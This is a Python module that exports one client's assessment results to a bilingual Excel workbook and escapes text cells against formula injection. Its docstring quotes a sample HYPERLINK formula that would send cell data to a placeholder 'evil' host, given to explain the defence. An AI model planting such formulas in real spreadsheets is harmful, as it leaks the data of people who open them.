"""One client's results as an Excel workbook: a sheet of verdicts, a sheet of open questions.

Client data goes into spreadsheets that people open with Excel or LibreOffice, which run a cell
starting with ``=``, ``+``, ``-`` or ``@`` as a formula (CSV/formula injection: a company name
``=HYPERLINK("http://evil/?"&A1, "x")`` would leak data). Every text cell therefore goes through
:func:`escape_cell`, which prefixes such text with an apostrophe as OWASP recommends; numbers are
written as numbers.
"""

from __future__ import annotations

import io
from collections.abc import Mapping, Sequence
from typing import Any, Final

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from app.report.labels import STATUS_LABELS, VERDICT_LABELS
from app.report.view import texts

#: First characters that make a spreadsheet read a cell as a formula (OWASP: also TAB and CR).
FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")

SHEET_NAMES: Final = {
    "zh": ("结论", "待回答问题", "报告信息"),
    "en": ("Verdicts", "Open questions", "About"),
}
VERDICT_HEADERS: Final = {
    "zh": (
        "序号", "措施", "标题", "结论", "结论代码", "状态", "原因", "可获得", "下一步",
        "办理部门", "尚需回答", "怎样才能适用",
    ),
    "en": (
        "No.", "Measure", "Title", "Verdict", "Verdict code", "Status", "Reason", "Gains",
        "Next step", "Office", "Still to answer", "What would make it apply",
    ),
}  # fmt: skip
VERDICT_WIDTHS: Final = (6, 9, 34, 12, 13, 14, 60, 40, 40, 24, 30, 40)
QUESTION_HEADERS: Final = {
    "zh": ("顺序", "问题", "字段", "可确定的措施数", "可确定的措施"),
    "en": ("Rank", "Question", "Field", "Verdicts it settles", "Measures"),
}
QUESTION_WIDTHS: Final = (6, 48, 26, 14, 60)
ABOUT_LABELS: Final = {
    "zh": ("企业名称", "统一社会信用代码", "评估基准日", "报告生成时间", "依据文件", "规则包",
           "规则包版本", "规则包校验值(SHA-256)"),
    "en": ("Company", "Unified social credit code", "Assessed as of", "Generated", "Policy",
           "Rule pack", "Rule pack version", "Rule pack checksum (SHA-256)"),
}  # fmt: skip

_HEADER_FONT: Final = Font(bold=True, color="FFFFFF")
_HEADER_FILL: Final = PatternFill("solid", fgColor="1F4E79")
_WRAP: Final = Alignment(wrap_text=True, vertical="top")


def escape_cell(value: Any) -> Any:
    """``value`` as a cell may safely hold it: text that a spreadsheet would run is defused."""
    if isinstance(value, str):
        value = "".join(c for c in value if c in "\t\n\r" or c >= " ")  # XML forbids C0 controls
        if value.startswith(FORMULA_TRIGGERS):
            return "'" + value
    return value


def _sheet(
    sheet: Worksheet, headers: Sequence[str], widths: Sequence[int], rows: list[list[Any]]
) -> None:
    sheet.append([escape_cell(h) for h in headers])
    for row in rows:
        sheet.append([escape_cell(value) for value in row])
    for index, width in enumerate(widths, start=1):
        sheet.column_dimensions[get_column_letter(index)].width = width
    for cell in sheet[1]:
        cell.font = _HEADER_FONT
        cell.fill = _HEADER_FILL
    for row_cells in sheet.iter_rows(min_row=2):
        for cell in row_cells:
            cell.alignment = _WRAP
    sheet.freeze_panes = "A2"
    if rows:
        sheet.auto_filter.ref = sheet.dimensions


def workbook_bytes(answer: Mapping[str, Any], view: Mapping[str, Any]) -> bytes:
    """The workbook as bytes, from the JSON answer and the report's view model."""
    lang = str(view["lang"])
    joiner = "；" if lang == "zh" else "; "
    names = SHEET_NAMES[lang]
    questions_of = {q["field"]: q["question"] for q in view["questions"]}
    book = Workbook()
    verdicts = book.active
    assert verdicts is not None
    verdicts.title = names[0]
    rows = []
    for result in answer["results"]:
        verdict, status = str(result["verdict"]), str(result.get("status", ""))
        rows.append(
            [
                int(result["number"]),
                str(result["measure"]),
                str(result["title"]),
                VERDICT_LABELS[lang].get(verdict, verdict),
                verdict,
                STATUS_LABELS[lang].get(status, status),
                str(result.get("reason", "")),
                str(result.get("gains", "")),
                str(result.get("next_step", "")),
                str(result.get("office", "")),
                joiner.join(questions_of.get(k, str(k)) for k in result.get("missing", [])),
                joiner.join(texts(result.get("what_would_apply"))),
            ]
        )
    _sheet(verdicts, VERDICT_HEADERS[lang], VERDICT_WIDTHS, rows)

    questions = book.create_sheet(names[1])
    _sheet(
        questions,
        QUESTION_HEADERS[lang],
        QUESTION_WIDTHS,
        [
            [
                q["rank"],
                q["question"],
                q["field"],
                len(q["resolves"]),
                joiner.join(f"{r['ref']} {r['title']}" for r in q["resolves"]),
            ]
            for q in view["questions"]
        ],
    )

    about = book.create_sheet(names[2])
    values = (
        view["company"]["name"],
        view["company"]["credit_code"] or "",
        view["as_of_iso"],
        view["generated"],
        f"{view['policy']['number']} {view['policy']['title']}",
        view["pack"]["id"],
        view["pack"]["version"],
        view["pack"]["sha256"],
    )
    for label, value in zip(ABOUT_LABELS[lang], values, strict=True):
        about.append([escape_cell(label), escape_cell(value)])
    about.column_dimensions["A"].width = 30
    about.column_dimensions["B"].width = 70
    for (label_cell,) in about.iter_rows(max_col=1):
        label_cell.font = Font(bold=True)

    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()
